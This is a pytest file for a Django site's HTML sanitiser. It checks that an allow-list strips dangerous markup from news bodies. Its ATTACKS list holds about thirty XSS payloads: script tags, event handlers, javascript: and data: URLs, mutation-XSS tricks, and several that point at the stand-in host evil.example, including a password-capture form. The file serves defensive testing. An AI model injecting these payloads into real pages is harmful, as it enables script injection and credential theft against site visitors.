"""The rich-text body: what the allow-list lets through, and what it does not."""

from __future__ import annotations

import re

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from library.fields import ATTRIBUTES, EXTENSIONS, TAGS, sanitise
from news.models import NewsItem
from tests.admin_forms import add_url, errors, send
from tests.conftest import Person
from tests.factories import NewsItemFactory
from tests.html import parse

# Ways to get a script or a request to another host into a page (OWASP's cheat sheet, and html5sec's).
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>ok</button></form>',
    '<p style="background:url(https://evil.example)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<p class="masthead" id="main">x</p>',
    '<img src="https://evil.example/pixel.gif">',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<a href="https://example.org" target="_blank" ping="https://evil.example">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<p>open <b><i>and <script>never closed",
    '<details open ontoggle="alert(1)">x</details>',
]


def dangers(html: str) -> list[str]:
    """Everything in a fragment that is not on the allow-list, as a browser would see it."""
    found = []
    body = next(parse(f"<!doctype html><title>t</title><body>{html}").iter("body"))
    for element in list(body.iter())[1:]:
        if not isinstance(element.tag, str):
            found.append("comment")
        elif element.tag not in TAGS | {"tbody"}:
            found.append(element.tag)
        else:
            found += [
                f"{element.tag} {name}"
                for name in element.attrib
                if name not in ATTRIBUTES.get(element.tag, set()) | {"rel"}
            ]
            address = re.sub(r"[\x00-\x20]", "", element.get("href") or "").lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
            if scheme and scheme[0] not in ("http:", "https:", "mailto:", "tel:"):
                found.append(address)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_taken_out(attack: str) -> None:
    cleaned = sanitise(f"<p>Before</p>{attack}<p>After</p>")
    assert dangers(cleaned) == []
    assert "Before" in cleaned
    assert "evil.example" not in cleaned or 'title="' in cleaned


def test_an_element_keeps_only_its_own_attributes() -> None:
    assert sanitise('<p title="x" lang="fr" class="y">Words</p>') == "<p>Words</p>"


@hypothesis_settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<td>", "<!--", "-->", "'", '"', "<a href=", ">", "é", "&lt;"])
    ).map("".join)
)
def test_no_mixture_of_attacks_gets_through_and_cleaning_twice_changes_nothing(html: str) -> None:
    cleaned = sanitise(html)
    assert dangers(cleaned) == []
    assert sanitise(cleaned) == cleaned


@pytest.mark.parametrize(
    "html",
    [
        "<p>A <strong>bold</strong> and <em>slanted</em> word, H<sub>2</sub>O and m<sup>2</sup>.</p>",
        "<h2>Part</h2><h3>Section</h3><h4>Point</h4>",
        '<ul><li><p>One</p></li></ul><ol start="3"><li><p>Three</p></li></ol>',
        "<blockquote><p>Said.</p></blockquote><hr>",
        '<table><tbody><tr><th scope="row">Year</th><td colspan="2">2024</td></tr></tbody></table>',
        "<p>Line<br>break, “quotation”, é, ß, Ж, ع</p>",
    ],
)
def test_what_the_editor_makes_is_kept_as_it_is(html: str) -> None:
    assert sanitise(html) == html


@pytest.mark.parametrize(
    "address", ["https://example.org/a?b=c&amp;d=e", "mailto:press@example.org", "tel:+3227075041", "/en/news/"]
)
def test_links_are_kept(address: str) -> None:
    assert f'href="{address}"' in sanitise(f'<p><a href="{address}">x</a></p>')


@pytest.mark.parametrize("empty", ["", "<p></p>", "<p><br></p>", "  <p></p> "])
def test_a_body_without_content_is_empty(empty: str) -> None:
    assert sanitise(empty) == ""


def test_every_heading_level_that_the_editor_offers_is_let_through() -> None:
    assert {f"h{level}" for level in EXTENSIONS["Heading"]["levels"]} <= TAGS


@pytest.mark.django_db
def test_the_column_is_clean_whichever_way_it_was_written() -> None:
    attack = "<p>Kept</p><script>alert(1)</script>"
    item = NewsItemFactory(body=attack)
    assert NewsItem.objects.get().body == item.body == "<p>Kept</p>"
    item.body = attack
    item.save()
    item.refresh_from_db()
    assert item.body == "<p>Kept</p>"
    NewsItem.objects.update(body=attack)
    assert NewsItem.objects.get().body == "<p>Kept</p>"
    NewsItem.objects.bulk_create([NewsItemFactory.build(slug="bulk", body=attack)])
    assert NewsItem.objects.get(slug="bulk").body == "<p>Kept</p>"


@pytest.mark.parametrize("nested", ["<ul><li>", "<li><h2>", "<blockquote>", "<div>", "<UL\n><li>", "<table><tr><td>"])
def test_a_text_nested_to_keep_the_parser_busy_is_refused(nested: str) -> None:
    with pytest.raises(ValidationError, match="too many lists"):
        sanitise(nested * 100_000)


@pytest.mark.django_db
def test_a_text_nested_too_deeply_is_a_message_in_the_form(writer: Person) -> None:
    page = send(writer, add_url(NewsItem), NewsItem, "_save", title="Deep", slug="deep", body="<ul><li>" * 20_000)
    assert "too many lists" in errors(page)
    assert not NewsItem.objects.exists()


def test_a_long_text_with_thousands_of_paragraphs_is_kept() -> None:
    html = (
        "<p>Words with <strong>weight</strong>, <a>a link</a><br> and more.</p>" * 5_000 + "<ul><li>x</li></ul>" * 1_000
    )
    assert sanitise(html).count("<p>") == 5_000
